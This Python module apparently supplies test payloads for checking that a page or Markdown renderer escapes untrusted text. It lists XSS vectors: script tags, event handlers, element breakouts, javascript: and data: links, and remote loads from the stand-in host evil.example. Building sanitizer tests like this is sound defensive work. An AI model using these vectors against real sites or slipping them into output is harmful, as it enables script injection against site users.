"""Texts that run a script or load something in a page that does not escape them.

Every script logs an error to the console; every address is at evil.example.
"""

from __future__ import annotations

_RUN = "console.error(1)"
_HOST = "http://evil.example"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_HOST}/a.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src={_HOST}/b.png onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<svg onload={_RUN}>",
    f"<svg><script href={_HOST}/c.js /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<iframe src={_HOST}/d></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={_HOST}/e></object><embed src={_HOST}/f>",
    f"<video src={_HOST}/g poster={_HOST}/h autoplay onerror={_RUN}></video>",
    f"<audio src={_HOST}/i onerror={_RUN} autoplay></audio>",
    f"<style>@import url({_HOST}/j.css); body {{ background: url({_HOST}/k) }}</style>",
    f"<link rel=stylesheet href={_HOST}/l.css><link rel=prefetch href={_HOST}/m>",
    f"<link rel=dns-prefetch href=//evil.example><link rel=preconnect href={_HOST}>",
    f"<meta http-equiv=refresh content='0;url={_HOST}/n'>",
    f"<base href={_HOST}/>",
    f"<body onload={_RUN} background={_HOST}/o>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<form action={_HOST}/p><button autofocus onfocus={_RUN}>x</button></form>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<p style=\"background:url('{_HOST}/q')\">x</p>",
    f"<table background={_HOST}/r><tr><td background={_HOST}/s></table>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
    f"<xss onpointerover={_RUN} style=position:fixed;inset:0>x</xss>",
)
_ESCAPES_FROM_ELEMENTS = (
    f"</title><script>{_RUN}</script>",
    f"</pre></details></article></section><script>{_RUN}</script>",
    f"</code></pre><img src=x onerror={_RUN}>",
    f"</style><script>{_RUN}</script><style>",
    f"--></textarea></noscript><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"' onfocus={_RUN} autofocus x='",
    f"` onfocus={_RUN} autofocus x=`",
    f'"><svg/onload={_RUN}>',
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\x00<script>{_RUN}</script>",
    f"<\u200bscript>{_RUN}</script>",
)
_MARKDOWN = (
    f"![x]({_HOST}/t.png)",
    f"![x][ref]\n\n[ref]: {_HOST}/u.png",
    f"[![x]({_HOST}/v.png)]({_HOST}/w)",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt&#58;{_RUN})",
    f"[x](java&#x0A;script:{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f"[x](\njavascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x][js]\n\n[js]: javascript:{_RUN}",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN}) [y](file:///etc/passwd)",
    f'[x]({_HOST}/x "\\" onfocus={_RUN} autofocus x=\\"")',
    f"[x]({_HOST}/x'onfocus={_RUN}'autofocus)",
    f"```html\n</code></pre><script>{_RUN}</script>\n```",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"`</code><script>{_RUN}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"> <script>{_RUN}</script>\n- <img src={_HOST}/y onerror={_RUN}>",
    f"\\<script>{_RUN}</script> \\\\<script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<?php echo 1 ?><script>{_RUN}</script><![CDATA[<script>{_RUN}</script>]]>",
)
PAYLOADS = (*_TAGS, *_ESCAPES_FROM_ELEMENTS, *_MARKDOWN)
